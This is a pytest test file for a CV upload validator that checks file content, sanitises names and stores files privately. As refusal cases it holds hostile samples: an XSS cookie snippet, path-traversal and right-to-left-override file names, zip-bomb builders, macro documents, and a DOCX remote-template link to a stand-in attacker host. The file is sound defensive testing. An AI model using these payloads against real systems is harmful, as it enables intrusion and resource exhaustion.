"""Checking uploaded CVs by content, cleaning their names, and storing them safely."""

from __future__ import annotations

import io
import os
import stat
import unicodedata
import zipfile
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tracker.applications import uploads
from tracker.applications.uploads import (
    DOCX,
    ODT,
    PDF,
    DocumentType,
    UploadError,
    check_document,
    delete,
    display_name,
    format_file_size,
    is_storage_name,
    new_storage_name,
    path_for,
    save,
)

MB = 1024 * 1024
WRONG_TYPE = "The selected file must be a PDF, DOCX or ODT"
LIMIT = 10 * MB

MINIMAL_PDF = (
    b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
    b"2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n"
    b"trailer << /Root 1 0 R >>\n%%EOF\n"
)
DOCX_CONTENT_TYPES = (
    b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    b'content-types"><Override PartName="/word/document.xml" ContentType="application/'
    b'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
ODT_MIMETYPE = b"application/vnd.oasis.opendocument.text"


def build_zip(entries: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def minimal_docx(**extra: bytes) -> bytes:
    return build_zip(
        {
            "[Content_Types].xml": DOCX_CONTENT_TYPES,
            "_rels/.rels": b"<Relationships/>",
            "word/document.xml": b"<w:document><w:body><w:p/></w:body></w:document>",
            **extra,
        }
    )


def minimal_odt(mimetype: bytes = ODT_MIMETYPE) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        # ODF wants the mimetype entry first and stored, as LibreOffice writes it.
        archive.writestr("mimetype", mimetype, compress_type=zipfile.ZIP_STORED)
        archive.writestr("content.xml", b"<office:document-content/>", zipfile.ZIP_DEFLATED)
        archive.writestr("META-INF/manifest.xml", b"<manifest:manifest/>", zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def streamed_zip(name: str, megabytes: int, chunk: bytes) -> bytes:
    """An archive holding `megabytes` repeats of a 1 MB chunk, without holding it all in memory."""
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive,
        archive.open(name, "w", force_zip64=True) as entry,
    ):
        for _ in range(megabytes):
            entry.write(chunk)
    return buffer.getvalue()


def set_encrypted_flag(data: bytes) -> bytes:
    """Mark every entry as encrypted, as zipfile will not write encrypted archives itself."""
    patched = bytearray(data)
    # zipfile reads the flags from the central directory: 2 bytes at offset 8 of each header.
    start = patched.find(b"PK\x01\x02")
    assert start != -1
    while start != -1:
        patched[start + 8] |= 0x1
        start = patched.find(b"PK\x01\x02", start + 4)
    return bytes(patched)


def assert_refused(data: bytes, message: str, max_bytes: int = LIMIT) -> None:
    with pytest.raises(UploadError) as raised:
        check_document(data, max_bytes=max_bytes)
    assert str(raised.value) == message


# Accepted documents


def test_accepts_a_minimal_pdf() -> None:
    assert check_document(MINIMAL_PDF, max_bytes=LIMIT) is PDF


def test_accepts_a_pdf_without_an_end_marker() -> None:
    # Leniency on purpose: readers open truncated or oddly saved PDFs.
    assert check_document(b"%PDF-1.7\n", max_bytes=LIMIT) is PDF


def test_accepts_a_minimal_docx() -> None:
    assert check_document(minimal_docx(), max_bytes=LIMIT) is DOCX


def test_accepts_a_minimal_odt() -> None:
    assert check_document(minimal_odt(), max_bytes=LIMIT) is ODT


def test_accepts_a_file_exactly_at_the_limit() -> None:
    assert check_document(MINIMAL_PDF, max_bytes=len(MINIMAL_PDF)) is PDF


def test_document_types_describe_themselves() -> None:
    assert (PDF.extension, PDF.media_type, PDF.label) == ("pdf", "application/pdf", "PDF")
    assert (DOCX.extension, DOCX.media_type, DOCX.label) == (
        "docx",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        "Word document",
    )
    assert (ODT.extension, ODT.media_type, ODT.label) == (
        "odt",
        "application/vnd.oasis.opendocument.text",
        "OpenDocument text",
    )


def test_upload_error_is_a_value_error() -> None:
    assert issubclass(UploadError, ValueError)


# Refused by content


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(b"<html><script>alert(document.cookie)</script></html>", id="html"),
        pytest.param(b"\x89PNG\r\n\x1a\n" + bytes(100), id="png"),
        pytest.param(b"Dear hiring manager, please find my CV.", id="text"),
        pytest.param(b" %PDF-1.4\n", id="pdf-header-not-first"),
        pytest.param(b"%PDF-x\n", id="pdf-header-without-version"),
        pytest.param(b"%PDF-", id="pdf-header-alone"),
        pytest.param(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(100), id="old-word-doc"),
        pytest.param(b"<html>" + minimal_docx(), id="html-with-docx-appended"),
    ],
)
def test_refuses_files_that_are_not_documents(data: bytes) -> None:
    assert_refused(data, WRONG_TYPE)


def test_refuses_an_empty_file() -> None:
    assert_refused(b"", "The selected file is empty")


def test_refuses_an_oversized_file_with_the_limit_in_megabytes() -> None:
    data = MINIMAL_PDF + bytes(5 * MB)
    assert_refused(data, "The selected file must be smaller than 5 MB", max_bytes=5 * MB)


def test_checks_size_before_content() -> None:
    assert_refused(b"<html>" * 10, "The selected file must be smaller than 50 bytes", 50)


@pytest.mark.parametrize(
    ("size", "expected"),
    [
        (5 * MB, "5 MB"),
        (MB, "1 MB"),
        (5 * MB // 2, "2.5 MB"),
        # Rounded down, so the stated limit is never above the real one.
        (2 * MB - 1, "1.9 MB"),
        (512 * 1024, "512 KB"),
        (100, "100 bytes"),
    ],
)
def test_formats_file_sizes(size: int, expected: str) -> None:
    assert format_file_size(size) == expected


def test_refuses_a_spreadsheet() -> None:
    xlsx = build_zip(
        {
            "[Content_Types].xml": b"<Types/>",
            "xl/workbook.xml": b"<workbook/>",
            "xl/worksheets/sheet1.xml": b"<worksheet/>",
        }
    )
    assert_refused(xlsx, WRONG_TYPE)


def test_refuses_a_plain_zip() -> None:
    assert_refused(build_zip({"cv.pdf": MINIMAL_PDF}), WRONG_TYPE)


def test_refuses_an_opendocument_spreadsheet() -> None:
    ods = minimal_odt(b"application/vnd.oasis.opendocument.spreadsheet")
    assert_refused(ods, WRONG_TYPE)


def test_refuses_an_odt_mimetype_with_anything_after_it() -> None:
    assert_refused(minimal_odt(ODT_MIMETYPE + b"\n"), WRONG_TYPE)


def test_refuses_a_macro_enabled_word_document() -> None:
    docm = minimal_docx(**{"word/vbaProject.bin": b"\x00macro"})
    assert_refused(docm, WRONG_TYPE)

    declared = minimal_docx(
        **{"[Content_Types].xml": DOCX_CONTENT_TYPES.replace(b"main+xml", b"macroEnabled")}
    )
    assert_refused(declared, WRONG_TYPE)


def test_refuses_a_truncated_docx() -> None:
    data = minimal_docx()
    assert_refused(data[: len(data) // 2], uploads.UNREADABLE)


# Zip bombs and other hostile archives


def test_refuses_a_zip_bomb() -> None:
    bomb = streamed_zip("word/document.xml", 60, bytes(MB))
    assert len(bomb) < LIMIT
    assert_refused(bomb, uploads.UNREADABLE)


def test_refuses_a_highly_compressed_entry_even_when_small_in_total() -> None:
    # 10 MB of zeros is under the total limit but compresses about 1000 to 1.
    bomb = streamed_zip("word/document.xml", 10, bytes(MB))
    assert_refused(bomb, uploads.UNREADABLE)


def test_refuses_an_archive_too_big_when_uncompressed() -> None:
    # About 50 to 1 per megabyte: under the ratio limit, but 60 MB in total.
    chunk = os.urandom(20 * 1024) + bytes(MB - 20 * 1024)
    archive = streamed_zip("word/document.xml", 60, chunk)
    entry = zipfile.ZipFile(io.BytesIO(archive)).getinfo("word/document.xml")
    assert entry.file_size / entry.compress_size < uploads.MAX_COMPRESSION_RATIO
    assert_refused(archive, uploads.UNREADABLE)


def test_refuses_an_archive_with_too_many_entries() -> None:
    entries = {f"word/media/{number}.xml": b"" for number in range(2001)}
    data = minimal_docx(**entries)
    assert_refused(data, uploads.UNREADABLE)


def test_accepts_an_archive_with_many_but_not_too_many_entries() -> None:
    entries = {f"word/media/{number}.xml": b"" for number in range(2000 - 3)}
    assert check_document(minimal_docx(**entries), max_bytes=LIMIT) is DOCX


def test_refuses_an_encrypted_archive() -> None:
    assert_refused(set_encrypted_flag(minimal_docx()), "The selected file is password protected")
    assert_refused(set_encrypted_flag(minimal_odt()), "The selected file is password protected")


# Display names


@pytest.mark.parametrize(
    ("filename", "document_type", "expected"),
    [
        ("My CV.pdf", PDF, "My CV.pdf"),
        ("../../etc/passwd.pdf", PDF, "passwd.pdf"),
        ("../../x.pdf", PDF, "x.pdf"),
        ("C:\\Users\\me\\cv.docx", DOCX, "cv.docx"),
        ("cv.html", PDF, "cv.pdf"),
        ("CV.PDF", PDF, "CV.pdf"),
        ("cv", ODT, "cv.odt"),
        ("J.Smith", PDF, "J.Smith.pdf"),
        ("cv.docx", PDF, "cv.pdf"),
        ("cv\u202efdp.exe", PDF, "cvfdp.pdf"),
        ("cv\x00.pdf", PDF, "cv.pdf"),
        ("  my \t\n  cv  .pdf", PDF, "my cv.pdf"),
        ("e\u200b\u0301.pdf", PDF, "\u00e9.pdf"),
        ('"quoted"<cv>.pdf', PDF, "_quoted__cv_.pdf"),
        (".hidden.pdf", PDF, "hidden.pdf"),
        ("", PDF, "cv.pdf"),
        (None, DOCX, "cv.docx"),
        ("../", PDF, "cv.pdf"),
        ("\u202e\u200b", ODT, "cv.odt"),
        ("Zoe\u0301.pdf", PDF, "Zo\u00e9.pdf"),
    ],
)
def test_display_name(filename: str | None, document_type: DocumentType, expected: str) -> None:
    assert display_name(filename, document_type) == expected


def test_display_name_of_a_very_long_name_is_at_most_100_characters() -> None:
    name = display_name("a" * 500 + ".docx", DOCX)
    assert len(name) == 100
    assert name == "a" * 95 + ".docx"


def test_display_name_does_not_end_a_truncated_stem_with_a_space() -> None:
    name = display_name("a" * 95 + " b.pdf", PDF)
    assert name == "a" * 95 + ".pdf"


# Storage names


def test_new_storage_name_is_random_hex_with_the_extension() -> None:
    for document_type in (PDF, DOCX, ODT):
        name = new_storage_name(document_type)
        stem, extension = name.split(".")
        assert len(stem) == 32
        assert set(stem) <= set("0123456789abcdef")
        assert extension == document_type.extension
        assert is_storage_name(name)


def test_new_storage_names_are_unique() -> None:
    names = {new_storage_name(PDF) for _ in range(1000)}
    assert len(names) == 1000


@pytest.mark.parametrize(
    "name",
    [
        "../x.pdf",
        "x/../../y.pdf",
        "abc.pdf",
        "",
        "0" * 32 + ".exe",
        "0" * 32 + ".PDF",
        "A" * 32 + ".pdf",
        "0" * 31 + ".pdf",
        "0" * 32 + ".pdf\n",
        "0" * 32 + ".pdf/",
        "/" + "0" * 32 + ".pdf",
        "0" * 32 + ".pdf.pdf",
    ],
)
def test_rejects_names_that_are_not_storage_names(name: str, tmp_path: Path) -> None:
    assert not is_storage_name(name)
    with pytest.raises(ValueError):
        save(tmp_path, name, b"data")
    with pytest.raises(ValueError):
        path_for(tmp_path, name)
    with pytest.raises(ValueError):
        delete(tmp_path, name)
    assert list(tmp_path.iterdir()) == []


def test_is_storage_name_refuses_non_strings() -> None:
    assert not is_storage_name(None)  # type: ignore[arg-type]
    assert not is_storage_name(b"0" * 32 + b".pdf")  # type: ignore[arg-type]


# Storing files


def test_save_round_trips_with_private_permissions(tmp_path: Path) -> None:
    folder = tmp_path / "uploads" / "cvs"
    name = new_storage_name(PDF)

    path = save(folder, name, MINIMAL_PDF)

    assert path == folder / name
    assert path.read_bytes() == MINIMAL_PDF
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
    assert path_for(folder, name) == path
    # Nothing left behind from the temporary file.
    assert [entry.name for entry in folder.iterdir()] == [name]


def test_save_keeps_an_existing_folders_permissions(tmp_path: Path) -> None:
    tmp_path.chmod(0o750)
    save(tmp_path, new_storage_name(ODT), b"data")
    assert stat.S_IMODE(tmp_path.stat().st_mode) == 0o750


def test_save_is_private_whatever_the_umask(tmp_path: Path) -> None:
    previous = os.umask(0)
    try:
        path = save(tmp_path / "new", new_storage_name(DOCX), b"data")
    finally:
        os.umask(previous)
    assert stat.S_IMODE(path.stat().st_mode) == 0o600


def test_delete_removes_the_file(tmp_path: Path) -> None:
    name = new_storage_name(DOCX)
    path = save(tmp_path, name, b"data")
    delete(tmp_path, name)
    assert not path.exists()


def test_delete_of_a_missing_file_is_fine(tmp_path: Path) -> None:
    delete(tmp_path, new_storage_name(PDF))
    delete(tmp_path / "never-created", new_storage_name(PDF))


def test_path_for_refuses_a_symlink_out_of_the_folder(tmp_path: Path) -> None:
    folder = tmp_path / "uploads"
    folder.mkdir()
    outside = tmp_path / "secret.pdf"
    outside.write_bytes(MINIMAL_PDF)
    name = new_storage_name(PDF)
    (folder / name).symlink_to(outside)
    with pytest.raises(ValueError):
        path_for(folder, name)


# Properties


@settings(max_examples=300)
@given(st.binary(max_size=2048))
def test_check_document_only_ever_returns_a_type_or_raises_upload_error(data: bytes) -> None:
    try:
        result = check_document(data, max_bytes=1024)
    except UploadError:
        return
    assert result in (PDF, DOCX, ODT)


@settings(max_examples=300)
@given(
    st.sampled_from([minimal_docx(), minimal_odt()]),
    st.lists(st.tuples(st.integers(min_value=0), st.integers(0, 255)), min_size=1, max_size=8),
)
def test_check_document_survives_corrupted_archives(
    archive: bytes, changes: list[tuple[int, int]]
) -> None:
    corrupted = bytearray(archive)
    for position, value in changes:
        corrupted[position % len(corrupted)] = value
    try:
        result = check_document(bytes(corrupted), max_bytes=LIMIT)
    except UploadError:
        return
    assert result in (PDF, DOCX, ODT)


@given(st.one_of(st.none(), st.text()), st.sampled_from([PDF, DOCX, ODT]))
def test_display_name_is_always_safe(filename: str | None, document_type: DocumentType) -> None:
    name = display_name(filename, document_type)
    stem = name.removesuffix(f".{document_type.extension}")
    assert stem
    assert name.endswith(f".{document_type.extension}")
    assert len(name) <= 100
    assert "/" not in name
    assert "\\" not in name
    assert not any(unicodedata.category(char) in {"Cc", "Cf", "Cs"} for char in name)
    assert name == name.strip()
    assert unicodedata.is_normalized("NFC", name)


ACTIVE = uploads.ACTIVE_CONTENT


def test_refuses_a_docx_that_fetches_a_remote_template() -> None:
    rels = (
        b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
        b'2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
        b'officeDocument/2006/relationships/attachedTemplate" '
        b'Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    assert_refused(minimal_docx(**{"word/_rels/settings.xml.rels": rels}), ACTIVE)


def test_accepts_a_docx_with_an_ordinary_web_link() -> None:
    rels = (
        b'<Relationships><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/'
        b'officeDocument/2006/relationships/hyperlink" Target="https://example.com/portfolio" '
        b'TargetMode="External"/></Relationships>'
    )
    assert (
        check_document(minimal_docx(**{"word/_rels/document.xml.rels": rels}), max_bytes=LIMIT)
        is DOCX
    )


def test_refuses_a_docx_with_an_embedded_object() -> None:
    assert_refused(minimal_docx(**{"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}), ACTIVE)


def test_refuses_an_odt_with_macros() -> None:
    odt = build_zip(
        {
            "mimetype": ODT_MIMETYPE,
            "content.xml": b"<office:document-content/>",
            "Basic/Standard/Module1.xml": b"<script:module/>",
        },
        compression=zipfile.ZIP_STORED,
    )
    assert_refused(odt, ACTIVE)
